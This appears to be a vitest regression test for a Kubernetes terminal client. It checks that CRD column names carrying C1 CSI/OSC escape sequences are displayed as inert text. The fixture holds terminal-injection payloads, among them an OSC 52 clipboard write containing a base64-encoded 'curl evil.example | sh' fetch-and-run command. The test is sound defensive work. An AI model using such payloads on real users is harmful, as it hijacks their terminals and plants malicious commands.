import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PaintedTerminal, ptyMissing } from '../helpers/painted-terminal.js';
import { startSimDaemon, type SimDaemon } from '../helpers/sim-daemon.js';

/**
 * A CRD's `additionalPrinterColumns` names become a list's column titles. Whoever can create a CRD
 * names them, with any character the API server stores: the daemon drops C0 controls from them, but
 * the C1 ones (U+0080–U+009F) stay, and a terminal reads U+009B as CSI and U+009D as OSC. The client
 * painted the titles as they came: a column named `\u009b2J…` cleared the user's screen and one
 * named `\u009d52;c;…\u009c` wrote the user's clipboard, every time the Widgets list was drawn.
 * Painted in a real client in a pty, read by a terminal emulator that records what it is made to do.
 */

let t: SimDaemon;

const CLIPBOARD = Buffer.from('curl evil.example | sh').toString('base64');
const COLUMNS = [
  { name: `Ph\u009b2J\u009b1;1Hase`, type: 'string', jsonPath: '.status.phase' },
  { name: `Own\u009d52;c;${CLIPBOARD}\u009cer`, type: 'string', jsonPath: '.spec.owner' },
  { name: `Ti\u009d0;pwned\u009ctle`, type: 'string', jsonPath: '.spec.owner' },
  { name: 'Age', type: 'date', jsonPath: '.metadata.creationTimestamp' },
];

const CRD = {
  apiVersion: 'apiextensions.k8s.io/v1',
  kind: 'CustomResourceDefinition',
  metadata: { name: 'gadgets.example.com' },
  spec: {
    group: 'example.com',
    names: { plural: 'gadgets', singular: 'gadget', kind: 'Gadget', listKind: 'GadgetList' },
    scope: 'Namespaced',
    versions: [
      {
        name: 'v1',
        served: true,
        storage: true,
        schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } },
        additionalPrinterColumns: COLUMNS,
      },
    ],
  },
};

const gadget = (name: string) => ({
  apiVersion: 'example.com/v1',
  kind: 'Gadget',
  metadata: { name, namespace: 'default' },
  spec: { owner: 'team-a' },
  status: { phase: 'Ready' },
});

beforeAll(async () => {
  if (ptyMissing) return;
  t = await startSimDaemon({
    beforeDaemon: (sim) => {
      sim.createObject(CRD);
      sim.createObject(gadget('gadget-one'));
    },
  });
}, 120_000);
afterAll(async () => t?.stop());

describe.skipIf(ptyMissing)('CRD printer column names painted in a real terminal', () => {
  it('show as text: no clipboard write, no title, the screen is not cleared', async () => {
    const p = PaintedTerminal.spawn({ socket: t.env.socket, env: t.env.env, cols: 120, rows: 24 });
    try {
      await p.waitScreen('the pods list', (x) => x.text().includes('Pods (default)'));
      for (const k of [':', 'gadgets', '\r']) {
        p.write(k);
        if (k === ':') await p.waitScreen('the view prompt', (x) => x.text().includes('Switch view'));
      }
      await p.waitScreen('the gadgets row', (x) => x.text().includes('gadget-one'));
      // Nothing but text reached the terminal: no OSC (clipboard, title). (Unfixed: the clipboard
      // write and the title change were recorded here.)
      expect(p.escaped).toEqual([]);
      // The screen was not cleared under the frame: the tab bar and the pane's top border are there.
      const lines = p.lines();
      expect(lines[0]).toContain('[1]');
      expect(lines[1]).toContain('Gadgets (default)');
      const header = lines.find((l) => l.includes('NAME'))!;
      // The titles are there as text (upper-cased), their controls gone.
      expect(header).toContain('PH2J1;1HASE');
      expect(header).toContain('AGE');
      expect(lines.some((l) => l.includes('gadget-one') && l.includes('Ready') && l.includes('team-a'))).toBe(true);
    } finally {
      await p.kill();
    }
  }, 120_000);
});
